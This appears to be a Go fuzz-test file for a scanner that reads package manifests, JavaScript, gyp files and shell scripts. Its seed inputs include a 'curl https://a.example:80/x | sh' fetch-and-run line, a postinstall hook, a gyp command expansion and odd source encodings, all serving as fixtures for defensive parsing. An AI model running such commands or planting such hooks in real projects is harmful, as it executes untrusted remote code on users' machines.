package content

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
)

// What encoding/json takes as an object, members reads alike.
func FuzzMembers(f *testing.F) {
	for _, s := range []string{`{}`, ` { } `, `{"a":1,"a":"}","b":{"c":["]",{}]}}`, `{"a" : [1 , "\\\"" ] , "\u0061":null}`, "\ufeff{\"scripts\":{\"postinstall\":\"node x\"}}",
		`{"x":` + strings.Repeat("[", 50) + strings.Repeat("]", 50) + `,"y":1}`, `{"a":1}}`, `{"a":1,}`, `{"a":}`, `{"a"`, `{"a":"`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		got := members(text)
		for _, v := range got {
			leaves(v, nil, 0)
		}
		squeezed(strings.NewReader(text), 1<<20)
		var want map[string]json.RawMessage
		if json.Unmarshal([]byte(strings.TrimPrefix(text, "\ufeff")), &want) != nil || want == nil {
			return
		}
		if len(got) != len(want) {
			t.Fatalf("%q: %d members, want %d", text, len(got), len(want))
		}
		for name, v := range want {
			if !bytes.Equal(bytes.TrimSpace(got[name]), v) {
				t.Errorf("%q: %q is %s, want %s", text, name, got[name], v)
			}
		}
		tight, whole := squeezed(strings.NewReader(text), 1<<20)
		if again := members(tight); !whole || len(again) != len(want) {
			t.Errorf("%q squeezed is %q", text, tight)
		}
	})
}

// A regular expression ends where it does, however many before it did not.
func FuzzRegexEnd(f *testing.F) {
	for _, s := range []string{"/[/[/[", "/[/]/[/]", `=/\/=/\/`, "/a/g/[b\n/c/", "/[\\]/]/", "/\\\n/a/"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		l := jsLexer{text: text}
		for at := range text {
			if text[at] != '/' {
				continue
			}
			alone := jsLexer{text: text}
			if got, want := l.regexEnd(at), alone.regexEnd(at); got != want {
				t.Fatalf("%q: from %d to %d, and alone to %d", text, at, got, want)
			}
		}
	})
}

// What is read around manifests takes any bytes.
func FuzzAround(f *testing.F) {
	for _, s := range []string{"\xff\xfea\x00", "\xfe\xff\x00a\xd8", "# -*- coding: rot13 -*-\n", "\n#coding=utf-7", `{"includes":["x.gypi"],"actions":[{"action":["node","x.dat"]}],"v":"<!(node x)"}`,
		"npm i b", "curl https://a.example:80/x | sh", "action: ['"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		plain(text)
		found := new(facts)
		pyEncoding(text, 1, found)
		actions(text)
		expansions(text)
		for _, host := range hosts(text) {
			if strings.ContainsAny(host, "/ \"'") {
				t.Errorf("%q", host)
			}
		}
		readShell(source{"a.sh", text, 1}, found)
	})
}
